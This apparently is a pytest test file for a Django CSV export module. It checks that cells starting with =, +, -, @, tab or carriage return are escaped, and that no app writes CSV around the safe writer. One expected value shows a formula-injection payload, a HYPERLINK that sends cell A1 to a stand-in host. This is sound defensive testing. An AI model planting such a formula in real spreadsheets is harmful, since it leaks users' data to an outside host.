"""core.csv_export: the one CSV writer, and that nothing writes CSV around it."""

import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.db.models import Value

from core.csv_export import SafeWriter, formula_safe, safe_cell
from core.models import AuditEntry
from tests.csv_safety import ESCAPED, INJECTION

ROOT = Path(__file__).resolve().parents[2]
APPS = ["config", "core", "accounts", "notifications", "academy", "subsidies", "services", "governance",
        "stations", "events", "volunteering", "rewards"]  # fmt: skip


@pytest.mark.parametrize(
    "value, written",
    [
        (INJECTION, ESCAPED),
        ("+8613800000001", "'+8613800000001"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张伟", "张伟"),
        ("'=already", "'=already"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-50, -50),  # numbers our code computed stay numbers
        (Decimal("-3.50"), Decimal("-3.50")),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_the_writer_escapes_every_cell():
    assert (
        SafeWriter().writerow([INJECTION, "+86 138", 7, None])
        == '"\'=HYPERLINK(""//e.x/?""&A1,""看"")",\'+86 138,7,\r\n'
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "value", [INJECTION, "+8613800000001", "-1", "@x", "\t=1", "\r=1", "张伟", "", "'=1"]
)
def test_the_sql_expression_of_the_copy_path_is_the_same_rule(value):
    entry = AuditEntry.objects.create(action="x", target_type="x", target_id="1")
    cell = (
        AuditEntry.objects.filter(pk=entry.pk).annotate(cell=formula_safe(Value(value))).values_list("cell")
    )
    assert cell.get() == (safe_cell(value),)


def test_no_csv_is_written_around_the_one_writer():
    """A new export must use core.csv_export; csv.writer and COPY elsewhere would skip the escaping."""
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "csv_export.py":
                continue
            text = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                offenders.append(f"{path.relative_to(ROOT)}: csv.writer")
            if re.search(r"COPY \(", text) and "formula_safe" not in text:
                offenders.append(f"{path.relative_to(ROOT)}: COPY without formula_safe")
    assert offenders == []
